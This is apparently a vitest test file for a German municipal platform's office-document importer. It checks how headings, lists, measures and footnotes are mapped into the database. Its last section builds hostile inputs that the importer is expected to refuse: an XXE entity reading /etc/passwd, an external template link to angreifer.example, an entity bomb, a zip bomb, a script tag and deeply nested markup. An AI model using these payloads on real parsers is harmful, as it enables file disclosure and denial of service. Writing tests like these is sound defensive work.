/**
 * Import of office documents (issue 11) on the database: a concept written in
 * LibreOffice (tests/fixtures/import/konzept.fodt: Word-style headings, a
 * numbered list, a measures table, a footnote, a tracked change, a comment,
 * an image) saved as .docx and .odt by
 * LibreOffice itself, imported with the proposed mapping; and hostile files,
 * each refused in German with nothing written.
 */
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { strToU8, unzipSync, zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { closeDb } from "@/db";
import { readConcept } from "@/lib/concepts/exchange";
import { plainText } from "@/lib/editor/document";
import { importFile, type ImportResult } from "@/lib/import/service";
import { missingWords } from "@/lib/import/words";
import { countContent } from "../support/data";
import { makeMunicipality } from "../support/fixtures";
import { convertWithOffice } from "../support/office";

/** The import's answer to a file nested deeper than the editor allows. */
const TOO_DEEP = /^Die Datei ist zu tief verschachtelt \(im Abschnitt „Leitbild“\): Listen, Zitate und Tabellen stehen dort mehr als 12 Ebenen tief ineinander\. Der Editor erlaubt höchstens 12 Ebenen/;

const FIXTURE = path.resolve(import.meta.dirname, "../fixtures/import/konzept.fodt");
let town: Awaited<ReturnType<typeof makeMunicipality>>;
let docx: Buffer;
let odt: Buffer;
let fileText: string;

beforeAll(async () => {
  town = await makeMunicipality("Musterhausen");
  docx = convertWithOffice(FIXTURE, "docx");
  odt = convertWithOffice(FIXTURE, "odt");
  // The text as the office suite itself reads the .docx, for the word comparison.
  const dir = mkdtempSync(path.join(tmpdir(), "kw-import-"));
  writeFileSync(path.join(dir, "konzept.docx"), docx);
  fileText = convertWithOffice(path.join(dir, "konzept.docx"), "txt:Text", "txt").toString("utf8");
}, 240_000);
afterAll(() => closeDb());

const run = (fileName: string, bytes: Uint8Array, mapping: null | "auto" | Record<string, string> = "auto") =>
  importFile(town.editor, { municipalityId: town.municipality.id, fileName, bytes: new Uint8Array(bytes), mapping });

async function created(result: Promise<ImportResult>) {
  const r = await result;
  if (r.kind !== "created") throw new Error("expected a new concept");
  return { ...r, concept: await readConcept(town.viewer, r.id) };
}

type ConceptView = Awaited<ReturnType<typeof readConcept>>;
const field = (c: ConceptView, key: string) => c.fields.find((f) => f.key === key)!;
const text = (c: ConceptView, key: string, part: string) => plainText(field(c, key).sections[part]!.content);

/** Everything a reader sees of the concept, as text. */
function allText(c: ConceptView) {
  return [
    c.title,
    ...Object.values(c.chapters).flatMap((parts) => Object.values(parts).map((s) => plainText(s.content))),
    ...c.fields.flatMap((f) => [
      f.title,
      ...Object.values(f.sections).map((s) => plainText(s.content)),
      ...f.subGoals.map((g) => g.text),
      ...f.measures.flatMap((m) => [m.title, m.leadOffice, plainText(m.description)]),
    ]),
  ].join("\n");
}

/**
 * Headings that became places (chapter, field, part) and are no text of their
 * own; the measure table's column heads that became the measure's fields
 * (title, Federführung).
 */
const PLACES = "Anlass und Auftrag Handlungsfelder Sprache und Sprachförderung Ausgangslage Leitziel Teilziele Maßnahmen Arbeitsmarkt, Ausbildung | Maßnahme Federführung";

describe.each([
  ["konzept.docx", () => docx],
  ["konzept.odt", () => odt],
])("%s written by LibreOffice, imported with mapping=auto", (name, bytes) => {
  it("puts every part in its place, with the same words as the file", async () => {
    const before = await countContent(town.municipality.id);
    const { concept, report } = await created(run(name, bytes()));
    expect(concept.status).toBe("draft");
    expect(concept.title).toMatch(/^Integrationskonzept Musterhausen 2026/);
    expect(plainText(concept.chapters.mandate!.text!.content)).toContain("beauftragt, das Integrationskonzept fortzuschreiben.[1] Es gilt von 2026 bis 2030.");
    // The footnote as a note at the end of its part.
    expect(plainText(concept.chapters.mandate!.text!.content)).toMatch(/Anmerkungen\n\[1\] Ratsbeschluss vom 12\. März 2025, Drucksache 45\/2025\.$/);
    expect(text(concept, "language", "baseline")).toContain("Rund 1.200 Menschen besuchen jährlich einen Integrationskurs");
    expect(text(concept, "language", "goal")).toBe("Alle Neuzugewanderten erreichen innerhalb von zwei Jahren das Sprachniveau B1.");
    expect(field(concept, "language").subGoals.map((g) => g.text)).toEqual([
      "Die Wartezeit auf einen Kursplatz sinkt auf vier Wochen.",
      "Kinderbetreuung begleitet jeden zweiten Kurs.",
      "Berufsbezogene Kurse gibt es in drei Stadtteilen.",
    ]);
    const measures = field(concept, "language").measures;
    expect(measures.map((m) => [m.title, m.leadOffice])).toEqual([
      ["Sprachcafé im Stadtteilzentrum", "Volkshochschule"],
      ["Kursbegleitende Kinderbetreuung", "Jugendamt"],
    ]);
    expect(plainText(measures[0]!.description)).toBe("Zeitraum: 2026–2028\nKosten: 12.500 €");
    // German dates and money read into the measure's fields.
    expect(measures.map((m) => [m.startDate, m.endDate, m.materialCostCents])).toEqual([
      ["2026-01-01", "2028-12-31", 1_250_000],
      ["2026-01-01", null, 3_000_000],
    ]);
    expect(text(concept, "work", "baseline")).toBe("Das Jobcenter berät Geflüchtete in ihrer Herkunftssprache.");
    const own = concept.fields.find((f) => f.custom)!;
    expect(own.title).toBe("Antidiskriminierung");
    expect(plainText(own.sections.baseline!.content)).toBe("Eine Beratungsstelle nimmt Meldungen über Diskriminierung auf.\nSchulungen für die Verwaltung\nJährlicher Bericht an den Rat");
    // The appendix fits no place: kept as „Nicht zugeordnet“ in the chapter it stood under (Handlungsfelder: its introduction, template 2), not dropped.
    expect(concept.templateVersion).toBe(2);
    expect(plainText(concept.chapters.fields!.intro!.content)).toContain("Nicht zugeordnet\nAnhang: Kontakte\nIntegrationsbüro, Rathausplatz 1, Telefon 0123 4567.");

    // The tracked change is taken as the current text ("drei" deleted, "vier" inserted), and the report says so.
    expect(text(concept, "language", "baseline")).toContain("die Wartezeit beträgt vier Monate.");
    expect(allText(concept)).not.toMatch(/\bdrei Monate/);
    expect(report).toMatchObject({ wordsPlaced: report!.wordsIn, unplaced: [], trackedChanges: 2 });
    // Image and comment are not taken, with where they were.
    expect(report!.skipped).toEqual([
      { kind: "comment", where: "Kommentar von Frau Beispiel, unter „Ausgangslage“", text: "Zahl bitte prüfen" },
      { kind: "image", where: "Ausgangslage" },
    ]);
    expect(report!.wordsIn).toBeGreaterThan(120);
    // Independently of the importer's own count: every word LibreOffice reads in the file is in the concept.
    const officeWords = fileText
      .replace("dreivier", "vier") // LibreOffice's text export shows the deleted word too
      .replace(/(\p{L}[.,;])\d+(?=\s)/gu, "$1") // the footnote's reference number
      .replace(/^\s*\d+\.\s/gm, ""); // list numbering
    expect(missingWords(officeWords, `${allText(concept)}\n${PLACES}`)).toEqual([]);

    const after = await countContent(town.municipality.id);
    expect(after.concepts).toBe(before.concepts + 1);
    expect(after.subGoals - before.subGoals).toBe(3);
    expect(after.measures - before.measures).toBe(2);
  });

  it("without mapping=auto answers with the proposal and writes nothing", async () => {
    const before = await countContent(town.municipality.id);
    const result = await run(name, bytes(), null);
    expect(result.kind).toBe("proposal");
    if (result.kind !== "proposal") return;
    const place = (title: string) => result.proposal.blocks.find((b) => b.title === title)?.target;
    expect(place("Sprache und Sprachförderung")).toBe("field:language:baseline");
    expect(place("Arbeitsmarkt, Ausbildung")).toBe("field:work:baseline");
    expect(place("Teilziele")).toBe("field:language:subGoals");
    expect(place("Anhang: Kontakte")).toBe("unassigned:fields");
    expect(result.proposal.blocks.find((b) => b.title === "Leitziel")!.preview).toBe("Alle Neuzugewanderten erreichen innerhalb von zwei Jahren das Sprachniveau B1.");
    expect(await countContent(town.municipality.id)).toEqual(before);
  });
});

describe("Word's German style names", () => {
  it("reads „Überschrift 1“ … and „Titel“ (style ids berschrift1 …) as headings and title", async () => {
    const parts = unzipSync(new Uint8Array(docx));
    const rename = (xml: string) =>
      xml
        .replace(/Heading(\d)/g, "berschrift$1")
        .replace(/w:val="Heading (\d)"/g, 'w:val="Überschrift $1"')
        .replace(/"Title"/g, '"Titel"');
    const german = zipSync({
      ...parts,
      "word/styles.xml": strToU8(rename(new TextDecoder().decode(parts["word/styles.xml"]))),
      "word/document.xml": strToU8(rename(new TextDecoder().decode(parts["word/document.xml"]))),
    });
    const result = await run("konzept.docx", german, null);
    if (result.kind !== "proposal") throw new Error("expected a proposal");
    expect(result.proposal.title).toBe("Integrationskonzept Musterhausen 2026");
    expect(result.proposal.blocks.map((b) => [b.level, b.title, b.target])).toContainEqual([2, "Sprache und Sprachförderung", "field:language:baseline"]);
    expect(result.proposal.blocks.find((b) => b.title === "Teilziele")).toMatchObject({ level: 3, target: "field:language:subGoals" });
  });
});

describe("control characters and a missing part list in a Word file", () => {
  it("leaves the control characters out: the preview and the imported text are clean, nothing is refused", async () => {
    const parts = unzipSync(new Uint8Array(docx));
    const xml = new TextDecoder().decode(parts["word/document.xml"]);
    expect(xml).toContain("Rund 1.200 Menschen");
    const dirty = zipSync({ ...parts, "word/document.xml": strToU8(xml.replace("Rund 1.200 Menschen", "Rund&#7; 1.200&#0; Menschen&#27;")) });
    const proposal = await run("konzept.docx", dirty, null);
    if (proposal.kind !== "proposal") throw new Error("expected a proposal");
    expect(JSON.stringify(proposal.proposal)).not.toMatch(/\\u00(0[0-8bcef]|1[0-9a-f])/);
    const { concept } = await created(run("konzept.docx", dirty));
    expect(text(concept, "language", "baseline")).toContain("Rund 1.200 Menschen besuchen jährlich einen Integrationskurs");
  });

  it("says what is missing when the list of parts ([Content_Types].xml) is gone", async () => {
    const parts = unzipSync(new Uint8Array(docx));
    delete parts["[Content_Types].xml"];
    await expect(run("konzept.docx", zipSync(parts))).rejects.toThrow(/fehlt das Verzeichnis seiner Teile \(\[Content_Types\]\.xml\)/);
  });
});

describe("a chosen mapping", () => {
  it("puts a block where the user chose, with its title as a heading there", async () => {
    const proposal = await run("konzept.odt", odt, null);
    if (proposal.kind !== "proposal") throw new Error("expected a proposal");
    const work = proposal.proposal.blocks.find((b) => b.title === "Arbeitsmarkt, Ausbildung")!;
    const { concept } = await created(run("konzept.odt", odt, { [work.id]: "chapter:governance" }));
    expect(plainText(concept.chapters.governance!.text!.content)).toBe("Arbeitsmarkt, Ausbildung\nDas Jobcenter berät Geflüchtete in ihrer Herkunftssprache.");
    expect(text(concept, "work", "baseline")).toBe("");
  });

  it("refuses a place that is not in the template", async () => {
    await expect(run("konzept.odt", odt, { b1: "chapter:nirgendwo" })).rejects.toMatchObject({ code: "bad_request", message: expect.stringMatching(/kein Ort in der Vorlage/) });
  });
});

describe("markdown and HTML", () => {
  it("imports 12 levels of quotes and lists, the most the editor allows, with the deepest text", async () => {
    const md = ["# Leitbild", "", `${"> ".repeat(12)}Zitat auf Ebene zwölf`, "", ...Array.from({ length: 12 }, (_, i) => `${"  ".repeat(i)}- Punkt ${i + 1}`)].join("\n");
    const { concept } = await created(run("konzept.md", strToU8(md)));
    const content = concept.chapters.vision!.text!.content;
    expect(plainText(content)).toContain("Zitat auf Ebene zwölf");
    expect(plainText(content)).toContain("Punkt 12");
    expect(JSON.stringify(content)).toContain(`${'{"type":"blockquote","content":['.repeat(12)}{"type":"paragraph"`);
  });

  it("imports a Markdown file with its headings, list and table", async () => {
    const md = ["# Leitbild", "", "Vielfalt ist Normalität.", "", "# Handlungsfelder", "", "## Gesundheit und Pflege", "", "### Teilziele", "", "- Dolmetschpool für Arztpraxen", "- Gesundheitslotsen in jedem Stadtteil"].join("\n");
    const { concept, report } = await created(run("konzept.md", strToU8(md)));
    expect(plainText(concept.chapters.vision!.text!.content)).toBe("Vielfalt ist Normalität.");
    expect(field(concept, "health").subGoals.map((g) => g.text)).toEqual(["Dolmetschpool für Arztpraxen", "Gesundheitslotsen in jedem Stadtteil"]);
    expect(report!.wordsPlaced).toBe(report!.wordsIn);
  });

  it("imports an HTML file, cleaned like a paste (no script, no Word classes)", async () => {
    const html = `<!doctype html><html><body><h1>Wohnen und Unterbringung</h1><p class="MsoNormal" style="mso-list:l0">Gemeinschaftsunterkünfte werden <b>bis 2027</b> aufgelöst.</p><script>alert(1)</script><img src="x.png"></body></html>`;
    const { concept, report } = await created(run("konzept.html", strToU8(html)));
    expect(field(concept, "housing").sections.baseline!.content.content).toEqual([
      { type: "paragraph", content: [{ type: "text", text: "Gemeinschaftsunterkünfte werden " }, { type: "text", text: "bis 2027", marks: [{ type: "bold" }] }, { type: "text", text: " aufgelöst." }] },
    ]);
    expect(report!.skipped).toEqual([{ kind: "image", where: "Wohnen und Unterbringung" }]);
  });
});

describe("a measure list kept in Excel or as CSV", () => {
  // massnahmen.xlsx: LibreOffice Calc's own .xlsx of massnahmen.csv (soffice --infilter="CSV:59,34,76,1" --convert-to xlsx); the costs of „Wohnen“ are a number cell there.
  const fixture = (name: string) => readFileSync(path.resolve(import.meta.dirname, "../fixtures/import", name));

  it.each([["massnahmen.xlsx"], ["massnahmen.csv"]])("%s becomes measures in their fields, with lead, period, costs, partners and status", async (name) => {
    const { concept, report } = await created(run(name, fixture(name)));
    expect(report).toMatchObject({ unplaced: [] });
    expect(report!.wordsPlaced).toBe(report!.wordsIn);
    const language = field(concept, "language").measures;
    expect(language.map((m) => m.title)).toEqual(["Sprachcafés in allen Stadtteilen", 'Kursplatzbörse "Deutsch jetzt"']);
    expect(language[0]).toMatchObject({ leadOffice: "Integrationsbüro", startDate: "2026-01-01", endDate: "2028-12-31", materialCostCents: 1_250_000, partners: ["Volkshochschule"], status: "planned" });
    expect(language[1]).toMatchObject({ leadOffice: "Kommunales Integrationszentrum", startDate: "2026-01-01", materialCostCents: 1_250_000, status: "running" });
    const housing = field(concept, "housing").measures;
    expect(housing).toEqual([expect.objectContaining({ title: "Wohnraumvermittlung für Geflüchtete", materialCostCents: 4_000_000, partners: ["Stadt", "Wohnungsbaugesellschaft"] })]);
  });

  it("refuses a workbook with macros, and a broken one, in German, writing nothing", async () => {
    const before = await countContent(town.municipality.id);
    await expect(run("massnahmen.xlsm", fixture("massnahmen.xlsx"))).rejects.toMatchObject({ message: expect.stringMatching(/Makros/) });
    const broken = zipSync({ "[Content_Types].xml": strToU8("<Types/>"), "xl/workbook.xml": strToU8("<workbook><sheets></sheets></workbook>") });
    await expect(run("kaputt.xlsx", broken)).rejects.toMatchObject({ message: expect.stringMatching(/Arbeitsmappe lässt sich nicht lesen/) });
    expect(await countContent(town.municipality.id)).toEqual(before);
  });
});

describe("hostile and broken files are refused in German, and nothing is written", () => {
  /** The LibreOffice .docx with some parts replaced or added. */
  const docxWith = (changes: Record<string, string | Uint8Array>) => {
    const parts = unzipSync(new Uint8Array(docx));
    for (const [name, value] of Object.entries(changes)) parts[name] = typeof value === "string" ? strToU8(value) : value;
    return zipSync(parts);
  };

  const refused: [string, () => [string, Uint8Array], RegExp][] = [
    ["a renamed .exe", () => ["konzept.docx", new Uint8Array([0x4d, 0x5a, 0x90, 0x00, ...strToU8("This program cannot be run in DOS mode")])], /Programm/],
    ["an empty file", () => ["konzept.docx", new Uint8Array()], /leer/],
    ["a password-protected file (encrypted OOXML is a compound file)", () => ["konzept.docx", new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Uint8Array(504)])], /Passwort/],
    ["a .docm", () => ["konzept.docm", docxWith({})], /Makros/],
    ["a .docx with a macro project", () => ["konzept.docx", docxWith({ "word/vbaProject.bin": new Uint8Array([1, 2, 3]) })], /Makros/],
    [
      "a .docx with an external template reference",
      () => [
        "konzept.docx",
        docxWith({
          "word/_rels/settings.xml.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://angreifer.example/vorlage.dotm" TargetMode="External"/></Relationships>`,
        }),
      ],
      /externe Inhalte.*angreifer\.example/,
    ],
    [
      "a .docx with XML entities",
      () => {
        const xml = new TextDecoder().decode(unzipSync(new Uint8Array(docx))["word/document.xml"]);
        const bomb = xml.replace(/^(<\?xml[^>]*\?>)/, '$1<!DOCTYPE w:document [<!ENTITY a "hahahahaha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>').replace("Rund 1.200", "&b; Rund 1.200");
        return ["konzept.docx", docxWith({ "word/document.xml": bomb })];
      },
      /DOCTYPE/,
    ],
    [
      "an .odt with XML entities",
      () => {
        const parts = unzipSync(new Uint8Array(odt));
        const xml = new TextDecoder().decode(parts["content.xml"]).replace(/^(<\?xml[^>]*\?>)/, '$1<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>');
        return ["konzept.odt", zipSync({ ...parts, "content.xml": strToU8(xml) })];
      },
      /DOCTYPE/,
    ],
    [
      "a zip bomb",
      () => ["konzept.docx", zipSync({ "[Content_Types].xml": strToU8("<Types/>"), "word/document.xml": new Uint8Array(60 * 1024 * 1024) }, { level: 9 })],
      /Zip-Bombe/,
    ],
    ["a file over 20 MB", () => ["konzept.md", new Uint8Array(20 * 1024 * 1024 + 1).fill(0x61)], /zu groß/],
    ["a PDF", () => ["konzept.pdf", strToU8("%PDF-1.7\n")], /PDF/],
    // Counted before parsing: 90,000 flat paragraphs would block the server for half a minute.
    ["an HTML file with 90,000 paragraphs", () => ["konzept.html", strToU8(`<h1>Leitbild</h1>${"<p>x</p>".repeat(90_000)}`)], /zu umfangreich für den Import: mehr als 80\.000/],
    ["a broken zip", () => ["konzept.docx", new Uint8Array([0x50, 0x4b, 0x03, 0x04, 1, 2, 3])], /beschädigt/],
    // Nesting (issue 10): refused before anything recursive reads the tree, naming the limit and where.
    ["an HTML file with 10,000 nested quotes", () => ["konzept.html", strToU8(`<h1>Leitbild</h1>${"<blockquote>".repeat(10_000)}<p>tief</p>${"</blockquote>".repeat(10_000)}`)], TOO_DEEP],
    ["an HTML file with 10,000 nested lists", () => ["konzept.html", strToU8(`<h1>Leitbild</h1>${"<ul><li>".repeat(10_000)}tief${"</li></ul>".repeat(10_000)}`)], TOO_DEEP],
    ["an HTML file with 13 nested quotes, one more than the editor allows", () => ["konzept.html", strToU8(`<h1>Leitbild</h1>${"<blockquote>".repeat(13)}<p>tief</p>${"</blockquote>".repeat(13)}`)], TOO_DEEP],
    ["an HTML file with 10,000 nested <div>", () => ["konzept.html", strToU8(`<h1>Leitbild</h1>${"<div>".repeat(10_000)}tief${"</div>".repeat(10_000)}`)], /zu tief verschachtelt \(im Abschnitt „Leitbild“\): mehr als 200 Elemente/],
    [
      "Word's HTML with list paragraphs 3,000 levels deep (mso-list, nested only by the paste cleaner)",
      () => ["konzept.html", strToU8(`<h1>Leitbild</h1>${Array.from({ length: 3_000 }, (_, i) => `<p class=MsoListParagraph style='mso-list:l0 level${i + 1} lfo1'><span style='mso-list:Ignore'>·</span>Punkt ${i}</p>`).join("\n")}`)],
      TOO_DEEP,
    ],
    [
      "an .odt with 10,000 nested lists",
      () => {
        const parts = unzipSync(new Uint8Array(odt));
        const xml = new TextDecoder().decode(parts["content.xml"]);
        const deep = `<text:h text:outline-level="1">Leitbild</text:h>${"<text:list><text:list-item>".repeat(10_000)}<text:p>tief</text:p>${"</text:list-item></text:list>".repeat(10_000)}`;
        return ["konzept.odt", zipSync({ ...parts, "content.xml": strToU8(xml.replace(/(<office:text[^>]*>)/, `$1${deep}`)) })];
      },
      /^Die Datei ist zu tief verschachtelt: mehr als 100 Elemente .* höchstens 12 Ebenen/,
    ],
    [
      "a .docx with 10,000 nested tables",
      () => {
        const xml = new TextDecoder().decode(unzipSync(new Uint8Array(docx))["word/document.xml"]);
        const deep = `${"<w:tbl><w:tr><w:tc>".repeat(10_000)}<w:p><w:r><w:t>tief</w:t></w:r></w:p>${"</w:tc></w:tr></w:tbl>".repeat(10_000)}`;
        return ["konzept.docx", docxWith({ "word/document.xml": xml.replace(/(<w:body>)/, `$1${deep}`) })];
      },
      /^Die Datei ist zu tief verschachtelt: mehr als 100 Elemente/,
    ],
    ["a Markdown file with 10,000 \">\" levels", () => ["konzept.md", strToU8(`# Leitbild\n\n${">".repeat(10_000)} tief\n`)], TOO_DEEP],
    // 6,000 levels of indentation are 18 MB of spaces, within the 20 MB a file may have.
    ["a Markdown list indented 6,000 levels", () => ["konzept.md", strToU8(`# Leitbild\n\n${Array.from({ length: 6_000 }, (_, i) => `${" ".repeat(i)}- Punkt ${i}`).join("\n")}`)], TOO_DEEP],
  ];

  it.each(refused)("%s", async (_label, make, message) => {
    const before = await countContent(town.municipality.id);
    const [name, bytes] = make();
    await expect(run(name, bytes)).rejects.toMatchObject({ message: expect.stringMatching(message) });
    await expect(run(name, bytes, null)).rejects.toMatchObject({ message: expect.stringMatching(message) });
    expect(await countContent(town.municipality.id)).toEqual(before);
  });

  it("refuses, at the import, a text too long for one part: naming the part, writing nothing; the mapping step still answers", async () => {
    // 60,000 words under one heading (as a Word file without heading styles would bring them): ≈ 560 KB for one part.
    const words = "Integration Sprache Arbeit Ausbildung Bildung Wohnen Teilhabe Gesundheit Beratung Kommune".split(" ");
    const body = Array.from({ length: 600 }, (_, i) => `<p>${Array.from({ length: 100 }, (_, j) => words[(i + j) % words.length]).join(" ")}.</p>`).join("");
    const bytes = strToU8(`<h1>Ausgangslage</h1>${body}`);
    const before = await countContent(town.municipality.id);
    const proposal = await run("konzept.html", bytes, null);
    expect(proposal.kind === "proposal" && proposal.proposal.wordsIn).toBe(60_001);
    await expect(run("konzept.html", bytes)).rejects.toMatchObject({ message: expect.stringMatching(/^Der Text für den Abschnitt „Ausgangslage“ \(\d+ KB\) ist zu lang: ein Abschnitt fasst höchstens 512 KB\./) });
    expect(await countContent(town.municipality.id)).toEqual(before);
  });

  it("refuses a reviewer, whatever the file", async () => {
    await expect(importFile(town.reviewer, { municipalityId: town.municipality.id, fileName: "konzept.docx", bytes: new Uint8Array(docx), mapping: "auto" })).rejects.toMatchObject({ code: "forbidden" });
  });
});
